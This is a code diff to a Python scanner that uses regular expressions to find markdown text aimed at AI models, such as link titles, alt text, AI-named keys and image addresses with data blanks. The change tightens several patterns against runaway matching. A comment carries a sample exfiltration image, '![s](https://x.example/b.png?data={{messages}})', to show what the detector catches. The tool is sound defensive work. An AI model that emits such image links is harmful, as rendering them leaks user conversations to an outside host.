@@ -243,11 +243,13 @@ _ATTRIBUTE: Final = re.compile(
     r"'([^'\n]{6,})')",
     re.IGNORECASE,
 )
-_TITLE: Final = re.compile(r"\]\(\s*<?[^)\s>]*>?\s+(?:\"([^\"\n]{6,})\"|'([^'\n]{6,})'|\(([^)\n]{6,})\))\s*\)")
+# (an address holds no `(`, `[` or `]` here, and an image's text no `[`: a run of `](` or `![` would otherwise be
+# read from each one to the line's end)
+_TITLE: Final = re.compile(r"\]\(\s*<?[^)\s>(\[\]]*>?\s+(?:\"([^\"\n]{6,})\"|'([^'\n]{6,})'|\(([^)\n]{6,})\))\s*\)")
 _REFERENCE: Final = re.compile(
     r"^\s*\[[^\]\n]+\]:\s*\S+\s+(?:\"([^\"\n]{6,})\"|'([^'\n]{6,})'|\(([^)\n]{6,})\))\s*$", re.MULTILINE
 )
-_ALT: Final = re.compile(r"!\[([^\]\n]{6,})\]")
+_ALT: Final = re.compile(r"!\[([^\[\]\n]{6,})\]")
 _FRONTMATTER: Final = re.compile(r"\A---[ \t]*\n(.*?)\n(?:---|\.\.\.)[ \t]*(?:\n|\Z)", re.DOTALL)
 # A key or attribute named for the AI ("ai_instructions", "note_for_model", "data-agent", "llm_hint").
 _KEY_NAMES_AI: Final = re.compile(
@@ -331,7 +333,10 @@ def _frontmatter(block: str, offset: int) -> Iterator[tuple[int, str, bool]]:
 
 # An image whose address carries a blank to be filled with data: rendering it sends the data out
 # ("![s](https://x.example/b.png?data={{messages}})", "?q=<user email>", "?d=THE_USERS_HISTORY").
-_IMAGE_BLANK: Final = re.compile(r"!\[[^\]\n]*\]\(\s*https?://[^)\s]*[?&][\w-]+=(?:\{\{|<|\$\{|%7[bB]|[A-Z][A-Z_]{5,})")
+# (an image's text holds no `[`: a run of `![` would otherwise be read from each one to the line's end)
+_IMAGE_BLANK: Final = re.compile(
+    r"!\[[^\[\]\n]{0,500}\]\(\s*https?://[^)\s]{0,2000}?[?&][\w-]+=(?:\{\{|<|\$\{|%7[bB]|[A-Z][A-Z_]{5,})"
+)
 
 
 _GATE_WORDS: Final = ("ai", "a.i", "llm", "agent", "assistant", "model", "bot", "claude", "gpt", "copilot", "cursor",
